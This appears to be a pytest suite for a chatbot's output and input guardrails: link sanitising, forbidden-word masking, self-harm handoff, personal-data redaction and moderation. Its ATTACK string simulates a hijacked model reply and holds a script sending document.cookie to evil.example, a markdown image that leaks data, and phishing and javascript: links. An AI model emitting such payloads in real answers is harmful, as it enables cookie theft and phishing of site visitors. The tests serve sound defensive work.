"""A model that does whatever an attacker says shows a visitor nothing that is forbidden."""

import pytest

from billing.models import Attempt, LedgerEntry
from chatbot.bench.words.disguises import DISGUISES
from chatbot.models import Verdict
from conversations.models import Conversation, Generation, Message
from tests.factories import make_price, make_tenant
from tests.guardrails.publishing import forbid, set_policy
from tests.visitor import visiting

ATTACK = (
    "Sure! <script>fetch('https://evil.example/?c=' + document.cookie)</script> "
    "![x](https://evil.example/x.png?q=secret) [Log in](https://evil.example/login) "
    "[run](javascript:alert(1)) <img src=https://evil.example/y.png> "
    "Sign in at https://evil.example/now or see [Returns](https://www.acme.example/returns)."
)


@pytest.fixture
def tenant(live):
    return make_tenant("Acme", allowed_origins=["https://www.acme.example"])


def saying(text, **more):
    return {"match": "*", "first_token_ms": 0, "token_ms": 1, "text": text, **more}


def ask(live, tenant, question="Hello?"):
    """The frames of one question, and all text that came with deltas."""
    with visiting(live, tenant.public_key) as visitor:
        visitor.say(question)
        frames = [visitor.next()]
        while not str(frames[-1].get("kind", "")).startswith(("reply.done", "reply.failed")):
            frames.append(visitor.next())
    return frames[-1], "".join(frame["text"] for frame in frames if frame["type"] == "delta")


@pytest.mark.parametrize("tiny", [False, True])
def test_links_and_pictures_lead_nowhere_else(live, tenant, tiny):
    live.behave([saying(ATTACK, tiny_chunks=tiny)])
    last, streamed = ask(live, tenant)
    text = last["data"]["text"]
    assert streamed == text
    assert "https://evil" not in text
    assert "![" not in text
    assert "](javascript" not in text
    assert "[Returns](https://www.acme.example/returns)" in text
    assert text.replace(" ", "") == ATTACK.replace(" ", "")
    assert Message.objects.get(role="assistant").text == text
    assert {one.check_name for one in Verdict.objects.all()} == {"links"}


def test_a_masked_word_never_leaves_in_any_disguise(live, tenant):
    forbid(tenant, "idiot", "casino bonus", action="mask")
    for make in DISGUISES.values():
        live.behave([saying(f"Take the {make('casino bonus')}, you {make('idiot')}, now.")])
        last, streamed = ask(live, tenant)
        assert streamed == last["data"]["text"] == "Take the ••••••, you ••••••, now."


def test_a_blocked_word_ends_the_answer_and_the_call(live, tenant):
    forbid(tenant, "idiot")
    live.behave([saying("You are an idiot. " + "And so on. " * 500, token_ms=5)])
    last, streamed = ask(live, tenant)
    data = last["data"]
    assert streamed == data["partial"] == "You are an "
    assert data["code"] == "blocked"
    assert data["text"].startswith("Sorry, I have to stop my answer here.")
    verdict = Verdict.objects.get()
    assert (verdict.ground, verdict.written, verdict.outcome) == ("idiot", "idiot", "blocked")
    entry = LedgerEntry.objects.get()
    assert (entry.outcome, entry.certainty) == ("blocked", "estimated")
    assert 0 < entry.output_tokens < 100


def test_a_forbidden_question_reaches_no_model(live, tenant):
    forbid(tenant, "idiot")
    before = len(live.billed())
    last, _ = ask(live, tenant, "You 1D10T!")
    assert last["data"]["code"] == "blocked"
    assert last["data"]["text"].startswith("Sorry, I cannot answer this here.")
    assert len(live.billed()) == before
    assert not Attempt.objects.exists()
    assert Verdict.objects.get().side == "question"


def test_a_person_is_asked_for_where_a_list_says_so(live, tenant):
    forbid(tenant, "kill myself", action="person")
    last, _ = ask(live, tenant, "I want to k i l l  m y s e l f")
    assert last["data"]["text"] == "A person will answer you here."
    assert Conversation.objects.get().state == Conversation.State.WAITING


def test_personal_data_does_not_reach_the_provider_and_comes_back(live, tenant):
    set_policy(tenant, hidden=["email", "card"])
    live.behave([saying("I wrote to [EMAIL_1] about [CARD_1].")])
    _, streamed = ask(live, tenant, "Mail ada@example.org, card 4111 1111 1111 1111")
    assert streamed == "I wrote to ada@example.org about 4111 1111 1111 1111."
    sent = str(Attempt.objects.get().request)
    assert "ada@" not in sent
    assert "4111" not in sent
    assert "[EMAIL_1]" in sent
    assert Verdict.objects.get().ground == "card, email"


def test_moderation_judges_the_question_and_is_in_the_books(live, tenant):
    make_price("demo-moderation", input="0", output="0")
    set_policy(tenant, moderates_questions=True)
    last, _ = ask(live, tenant, "I want to kill myself")
    assert last["data"]["code"] == "blocked"
    entry = LedgerEntry.objects.get()
    assert (entry.purpose, entry.amount, entry.outcome) == ("moderation", 0, "flagged")
    assert Verdict.objects.get().ground == "self-harm/intent"


def test_an_answer_is_shown_once_moderation_has_let_it_through(live, tenant):
    make_price("demo-moderation", input="0", output="0")
    set_policy(tenant, moderates_answers=True)
    live.behave([saying("You are an idiot.") | {"endpoint": "chat.completions", "times": 1}])
    last, streamed = ask(live, tenant)
    assert (last["data"]["code"], streamed) == ("blocked", "")
    live.behave([saying("You are kind.") | {"endpoint": "chat.completions"}])
    last, streamed = ask(live, tenant)
    assert streamed == last["data"]["text"] == "You are kind."
    assert Generation.objects.order_by("pk").last().model == "demo-1"


def test_moderation_that_cannot_be_had_stops_only_those_who_insist(live, tenant):
    policy = set_policy(tenant, moderates_questions=True)  # its model has no price here
    live.behave([saying("Hello!")])
    last, _ = ask(live, tenant)
    assert last["data"]["text"] == "Hello!"
    assert Verdict.objects.get().outcome == "unavailable"
    policy.tenant = make_tenant("Globex")
    policy.pk, policy.unavailable = None, "stop"
    policy.save()
    last, _ = ask(live, policy.tenant)
    assert last["data"]["code"] == "not_judged"
